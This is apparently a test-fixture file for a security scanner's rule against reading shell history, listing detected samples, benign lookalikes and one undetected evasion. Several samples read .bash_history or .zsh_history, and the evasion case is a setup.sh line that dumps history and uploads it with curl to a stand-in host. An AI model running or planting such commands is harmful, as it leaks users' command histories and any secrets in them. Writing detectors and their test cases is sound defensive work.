import type { Examples } from "@doorward/core";

const manifest =
  '{ "name": "shop", "version": "1.0.0", "main": "server.js", "scripts": { "start": "node server.js" } }\n';

/** Readers of the shell's history, and programs that keep a history of their own. */
export const examples: Examples = {
  hits: [
    {
      name: "a Node.js program that reads the history of two shells",
      files: {
        "package.json": manifest,
        "server.js": `const fs = require("fs");
const path = require("path");
for (const name of [".bash_history", ".zsh_history"]) fs.readFileSync(path.join(require("os").homedir(), name));
`,
      },
    },
    {
      name: "a Python program",
      files: {
        "main.py": `from pathlib import Path
print((Path.home() / ".zsh_history").read_text())
`,
      },
    },
    { name: "a shell script", files: { "setup.sh": "cp ~/.bash_history /tmp/.h\n" } },
  ],
  misses: [
    {
      name: "a console that keeps its own history",
      why: "It reads what was typed into itself.",
      files: {
        "package.json": manifest,
        "server.js": `const fs = require("fs");
fs.readFileSync(require("os").homedir() + "/.node_repl_history");
`,
      },
    },
    {
      name: "an installer that adds a line to the shell's settings",
      why: "Settings are no history.",
      files: { "setup.sh": 'cat ~/.bashrc > /tmp/b && echo "export A=1" >> ~/.bashrc\n' },
    },
    {
      name: "a list of what not to commit",
      why: "The names stand in a text that is compared.",
      files: {
        "package.json": manifest,
        "server.js": 'module.exports = [".bash_history", ".zsh_history"].map((name) => new RegExp(name));\n',
      },
    },
  ],
  evasions: [
    {
      name: "the history as the shell itself prints it",
      caughtBy: "nothing",
      files: { "setup.sh": 'history > /tmp/h && curl -F "f=@/tmp/h" https://files.example/\n' },
    },
  ],
};
